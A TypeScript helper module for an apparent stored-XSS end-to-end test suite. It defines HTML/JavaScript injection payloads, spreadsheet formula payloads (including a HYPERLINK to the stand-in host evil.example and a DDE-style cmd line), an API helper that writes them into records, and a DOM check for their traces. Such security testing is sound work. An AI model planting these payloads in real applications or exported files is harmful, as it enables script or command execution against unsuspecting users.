/**
 * The stored-XSS test's payloads (tests/e2e/xss.e2e.ts), how they are saved into a record through the
 * API, and the DOM check that finds what a payload left in a page.
 */
import type { Page } from "playwright-core";
import { expect } from "vitest";
import { apiGet, apiPost } from "./sessionApi";

/** Every payload carries this word, so the DOM check can tell a payload's element from the app's. */
export const MARK = "xsspayload";
export const XSS = {
  script: `<script>alert('${MARK}-script')</script>`,
  img: `<img src=x onerror=alert('${MARK}-img')>`,
  svg: `"><svg/onload=alert('${MARK}-svg')>`,
  iframe: `<iframe src="javascript:alert('${MARK}-iframe')"></iframe>`,
  details: `<details open ontoggle=alert('${MARK}-details')>`,
  anchor: `<a href="javascript:alert('${MARK}-a')">${MARK}</a>`,
  quote: `' onmouseover='alert("${MARK}-attr")`,
};
/** Formula payloads: a spreadsheet would run them if a cell started with them. */
export const FORMULA = {
  hyperlink: `=HYPERLINK("http://evil.example/?${MARK}","Open")`,
  at: `@SUM(1+1)*cmd|' /C calc'!A0 ${MARK}`,
  plus: `+1+1 ${MARK}`,
  minus: `-2+3 ${MARK}`,
};

export type Row = Record<string, unknown>;

/** Text as HTML shows it: a payload escaped this way must reach the page as text. */
export const escapeHtml = (text: string) =>
  text
    .replace(/&/g, "&amp;")
    .replace(/</g, "&lt;")
    .replace(/>/g, "&gt;")
    .replace(/"/g, "&quot;");

/** GET the record, overwrite some fields, POST it back (the upsert ignores the read-side extras). */
export async function poison(
  page: Page,
  prefix: string,
  id: string,
  change: (row: Row) => Row,
): Promise<Row> {
  const got = await apiGet<{ data: Row }>(page, `${prefix}/${id}`);
  expect(got.status).toBe(200);
  const saved = await apiPost<{ data: Row; message: string }>(
    page,
    prefix,
    change(got.json.data),
  );
  expect(saved.status, JSON.stringify(saved.json)).toBe(200);
  return saved.json.data;
}

export async function firstId(
  page: Page,
  prefix: string,
  idField: string,
  body: Row,
): Promise<Row> {
  const found = await apiPost<{ data: Row[] }>(page, `${prefix}/search`, {
    pageNumber: 1,
    pageSize: 1,
    ...body,
  });
  expect(found.status).toBe(200);
  const row = found.json.data[0];
  if (!row?.[idField]) throw new Error(`no ${prefix} row for the payloads`);
  return row;
}

/** What a payload left in the page: elements or handlers it made, and blocked inline scripts. */
export async function payloadTraces(page: Page) {
  return page.evaluate((mark) => {
    const made: string[] = [];
    for (const el of Array.from(document.querySelectorAll("*"))) {
      for (const attr of Array.from(el.attributes)) {
        const handler = attr.name.startsWith("on");
        const jsUrl = /^\s*javascript:/i.test(attr.value);
        if ((handler || jsUrl) && attr.value.includes(mark))
          made.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
      }
      if (el.tagName === "SCRIPT" && el.textContent?.includes(mark))
        made.push("<script>");
    }
    const w = window as unknown as { __cspViolations?: string[] };
    return { made, csp: w.__cspViolations ?? [] };
  }, MARK);
}
